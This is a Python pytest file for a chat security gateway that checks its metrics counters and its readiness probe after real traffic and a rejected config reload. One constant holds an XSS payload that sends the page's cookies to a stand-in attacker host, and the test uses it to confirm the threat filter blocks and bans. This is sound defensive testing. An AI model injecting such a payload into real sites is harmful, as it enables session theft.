"""/metrics after real traffic: every counter an operator relies on moved, with the labels the dashboard
and the alert rules use. And /readyz reports a rejected reload while the running config keeps serving."""

from __future__ import annotations

import base64
import os
import re
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest
import yaml
from aiohttp import web

from gateway.admin.probes import build_probe_app
from gateway.auth import AUTH
from gateway.auth.tokens import generate_pem
from gateway.config.settings import load_settings
from gateway.server import reload
from tests.helpers import RunningGateway, serve_app
from tests.ports import closed_port as _closed_port

ATTACK = "<script>document.location='http://evil.example/?c='+document.cookie</script>"




def samples(text: str, name: str) -> dict[str, float]:
    """`{'{label="v",...}': value}` for every sample of metric `name`."""
    found: dict[str, float] = {}
    for line in text.splitlines():
        match = re.match(rf"^{name}(\{{[^}}]*\}})? (\S+)$", line)
        if match:
            found[match.group(1) or ""] = float(match.group(2))
    return found


def total(text: str, name: str, **labels: str) -> float:
    wanted = [f'{key}="{value}"' for key, value in labels.items()]
    return sum(value for key, value in samples(text, name).items() if all(w in key for w in wanted))


@pytest.fixture
async def backend() -> AsyncIterator[str]:
    async def answer(request: web.Request) -> web.Response:
        await request.read()
        return web.json_response({"text": "hello from the backend"})

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", answer)
    async with serve_app(app) as url:
        yield url


def config(tmp_path: Path, upstream: str) -> dict[str, Any]:
    key, audit_key = tmp_path / "jwt.pem", tmp_path / "audit.pem"
    key.write_bytes(generate_pem("EdDSA"))
    audit_key.write_bytes(generate_pem("EdDSA"))
    messages = {"inbound": {"json": ["/text"]}, "outbound": {"json": ["/text"]}}
    return {
        "upstreams": {"up": {"url": upstream}, "down": {"url": f"http://127.0.0.1:{_closed_port()}"}},
        "logging": {"access_log": False},
        "auth": {"store": f"sqlite://{tmp_path}/users.db", "jwt": {"signing_keys": [str(key)]},
                 "totp": {"encryption_key": base64.b64encode(os.urandom(32)).decode()},
                 "argon2_time_cost": 1, "argon2_memory_kib": 1024},
        "audit": {"path": str(tmp_path / "audit.jsonl"), "signing_key_file": str(audit_key)},
        "filters": {"mask": {"use": "masking"}, "threat": {"use": "threat"}},
        "responses": {"bands": [{"min_score": 0.8, "actions": ["block", "ban"]}]},
        "roles": {"agent": {}},
        "routes": [
            {"name": "chat", "match": {"path": "/chat"}, "upstream": "up", "allow": ["anonymous"],
             "messages": messages, "filters": ["mask", "threat"]},
            {"name": "agents", "match": {"path": "/agents"}, "upstream": "up", "allow": ["agent"]},
            {"name": "broken", "match": {"path": "/broken"}, "upstream": "down", "allow": ["anonymous"]},
        ],
    }


async def _scrape(client: aiohttp.ClientSession, probes: str) -> str:
    async with client.get(f"{probes}/metrics") as resp:
        assert resp.status == 200
        return await resp.text()


async def test_counters_move_with_traffic(tmp_path: Path, backend: str) -> None:
    path = tmp_path / "chatguard.yaml"
    path.write_text(yaml.safe_dump(config(tmp_path, backend)))
    settings = load_settings(path)
    from gateway.app import build_app

    app = build_app(settings)
    async with serve_app(app) as url, serve_app(build_probe_app(app)) as probes, \
            aiohttp.ClientSession() as client:
        gw = RunningGateway(url, app, settings)
        service = gw.app[AUTH]
        await service.store.add_user("ann", await service.passwords.hash("correct horse battery"),
                                     frozenset({"agent"}))
        before = await _scrape(client, probes)
        assert total(before, "chatguard_build_info") == 1
        (config_hash,) = [re.search(r'hash="(\w+)"', k).group(1)  # type: ignore[union-attr]
                          for k in samples(before, "chatguard_config_info")]
        assert len(config_hash) == 16

        async with client.post(f"{url}/chat", json={"text": "card 4111 1111 1111 1111"}) as resp:
            assert resp.status == 200
        async with client.get(f"{url}/broken") as resp:
            assert resp.status == 502
        for password in ("wrong password", "correct horse battery"):
            async with client.post(f"{url}/auth/login", json={"username": "ann", "password": password}) as resp:
                assert resp.status in (200, 401)
        async with client.get(f"{url}/agents", headers={"Authorization": "Bearer not.a.token"}) as resp:
            assert resp.status == 401
        # Last: the attack bans this client (the band says block and ban).
        async with client.post(f"{url}/chat", json={"text": ATTACK}) as resp:
            assert resp.status == 403

        after = await _scrape(client, probes)
        assert total(after, "chatguard_filter_actions_total", route="chat", filter="mask", action="modify") >= 1
        assert total(after, "chatguard_filter_actions_total", route="chat", filter="threat", action="block") == 1
        assert total(after, "chatguard_bytes_total", direction="inbound") > 0
        assert total(after, "chatguard_bytes_total", direction="outbound") > 0
        assert total(after, "chatguard_upstream_errors_total", upstream="down", kind="refused") == 1
        assert total(after, "chatguard_logins_total", outcome="ok") == 1
        assert total(after, "chatguard_logins_total", outcome="failed") == 1
        assert total(after, "chatguard_tokens_refused_total", reason="malformed") == 1
        assert total(after, "chatguard_bans_total", kind="address") == 1
        assert "chatguard_audit_queue_depth" in after and "# TYPE chatguard_audit_failures_total counter" in after

        # A reload with a broken file is rejected: counted, and /readyz says so while still ready.
        good = path.read_text()
        path.write_text(good.replace("min_score: 0.8", "min_score: 8"))
        assert not await reload(app, str(path))
        async with client.get(f"{probes}/readyz") as resp:
            ready = await resp.json()
        assert ready["upstreams"] == {"up": True, "down": False}  # not ready for that reason alone
        assert ready["config"]["hash"] == config_hash
        assert ready["config"]["last_reload"]["outcome"] == "rejected"
        assert ready["config"]["last_reload"]["key"] == "responses.bands[0].min_score"
        path.write_text(good + "\n# touched\n")
        assert await reload(app, str(path))
        async with client.get(f"{probes}/readyz") as resp:
            ready = await resp.json()
        assert "last_reload" not in ready["config"] and ready["config"]["hash"] != config_hash
        final = await _scrape(client, probes)
        assert total(final, "chatguard_config_reloads_total", outcome="failed") == 1
        assert total(final, "chatguard_config_reloads_total", outcome="ok") == 1
        assert list(samples(final, "chatguard_config_info")) == [f'{{hash="{ready["config"]["hash"]}"}}']
